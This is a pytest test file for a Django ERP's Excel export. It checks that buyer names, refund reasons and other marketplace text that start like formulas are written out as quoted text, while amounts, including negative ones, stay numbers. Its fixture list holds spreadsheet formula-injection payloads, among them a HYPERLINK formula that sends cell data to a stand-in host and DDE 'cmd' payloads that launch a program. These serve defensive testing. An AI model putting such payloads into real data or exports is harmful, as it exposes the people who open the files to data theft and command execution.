"""导出Excel never hands a spreadsheet a formula: JD's text that starts like one (a buyer account
"=HYPERLINK(…)", a reason "-cmd|…") comes out as text beginning with a single quote, while amounts
and quantities stay numbers, negative ones included. Read back with openpyxl, as Excel would."""

import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.models import ExportJob, ExportStatus
from erp_aftersales.exports import spreadsheet_cell
from refunds.models import RawRefund

from .conftest import PASSWORD
from .factories import OrderFactory, OrderLineFactory, RawRefundFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def login(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def workbook(content):
    return load_workbook(io.BytesIO(content)).active


def records(sheet):
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def assert_no_formula(sheet):
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)


def assert_text(c, original):
    assert c.data_type == "s", (c.coordinate, c.value)
    assert c.value.startswith("'"), (c.coordinate, c.value)
    # The text itself is kept (cells are stripped of surrounding blanks, as before).
    assert c.value[1:] == original.strip()


@pytest.fixture
def hostile_slips():
    slips = []
    for i, text in enumerate(HOSTILE):
        line = OrderLineFactory(order=OrderFactory(buyer_nick=text, paid=Decimal("-3.20")), num=3)
        slip = RawRefundFactory(
            order_line=line,
            reason=text,
            buyer_nick=text,
            refund_amount=Decimal("-12.50") if i == 0 else Decimal("99.00"),
            num=2,
        )
        RawRefund.objects.filter(pk=slip.pk).update(writeback_message=text, attention=text)
        slips.append(slip)
    return slips


def test_raw_refund_export_writes_jd_text_as_text_and_amounts_as_numbers(client, cs_user, hostile_slips):
    response = login(client, cs_user).get(reverse("admin:erp_export", args=["refunds", "rawrefund"]))
    assert response.status_code == 200
    sheet = workbook(response.content)
    assert_no_formula(sheet)
    rows = {r["平台退款单号"].value: r for r in records(sheet)}
    assert len(rows) == len(HOSTILE)
    for slip, text in zip(hostile_slips, HOSTILE, strict=True):
        row = rows[slip.refund_no]
        for column in ("退款原因", "买家账号", "回传结果", "需关注"):
            assert_text(row[column], text)
        assert row["退款金额"].data_type == "n" and row["退款金额"].value == float(slip.refund_amount)
        assert row["退款数量"].data_type == "n" and row["退款数量"].value == 2
    negative = rows[hostile_slips[0].refund_no]["退款金额"]
    assert negative.value == -12.5  # a negative amount is a number, not "'-12.50"


def test_order_export_writes_the_buyer_as_text_and_paid_as_a_number(client, cs_user, hostile_slips):
    response = login(client, cs_user).get(reverse("admin:erp_export", args=["orders", "order"]))
    assert response.status_code == 200
    sheet = workbook(response.content)
    assert_no_formula(sheet)
    rows = {r["平台订单号"].value: r for r in records(sheet)}
    for slip, text in zip(hostile_slips, HOSTILE, strict=True):
        row = rows[slip.tid]
        assert_text(row["买家账号"], text)
        assert row["实付金额"].data_type == "n" and row["实付金额"].value == -3.2


def test_background_export_neutralises_formulas_too(
    client, cs_user, settings, hostile_slips, django_capture_on_commit_callbacks
):
    from erp_aftersales.celery import app

    settings.EXPORT_BACKGROUND_OVER = 2
    settings.EXPORT_DIR = settings.VAR_DIR / "test-exports-formulas"
    app.conf.update(task_always_eager=True)
    try:
        login(client, cs_user)
        with django_capture_on_commit_callbacks(execute=True):
            client.get(reverse("admin:erp_export", args=["refunds", "rawrefund"]))
    finally:
        app.conf.update(task_always_eager=False)
    job = ExportJob.objects.get()
    assert job.status == ExportStatus.DONE
    response = client.get(reverse("admin:erp_export_download", args=[job.pk]))
    sheet = workbook(b"".join(response.streaming_content))
    assert_no_formula(sheet)
    reasons = sorted(r["退款原因"].value for r in records(sheet))
    assert reasons == sorted("'" + t.strip() for t in HOSTILE)


def test_spreadsheet_cell_leaves_numbers_dates_and_plain_text_alone():
    for value in (Decimal("-12.50"), -3, 0, 2.5, None, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4)):
        assert spreadsheet_cell(value) == value
    assert spreadsheet_cell("商品与描述不符") == "商品与描述不符"
    assert spreadsheet_cell("jd_buyer-01+x") == "jd_buyer-01+x"  # only the first character counts
    assert spreadsheet_cell("") == ""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    # Control characters an .xlsx cannot hold are dropped (openpyxl refuses them), then checked.
    assert spreadsheet_cell("\x01=1+1") == "'=1+1"
